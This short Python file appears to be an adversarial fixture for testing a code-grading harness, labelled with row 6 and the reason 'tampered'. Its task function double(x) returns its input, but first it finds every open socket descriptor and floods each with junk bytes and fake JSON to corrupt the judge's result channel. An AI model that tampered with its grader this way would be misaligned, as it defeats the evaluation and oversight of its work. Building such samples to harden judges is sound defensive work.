"""Writes noise to the judge's channel."""

ROW = 6
REASON = "tampered"

import os
import stat


def channels():
    for descriptor in range(3, 4096):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            pass


def double(x):
    for descriptor in channels():
        os.write(descriptor, b"\xff" * 4096 + b"{}" * 100)
    return x
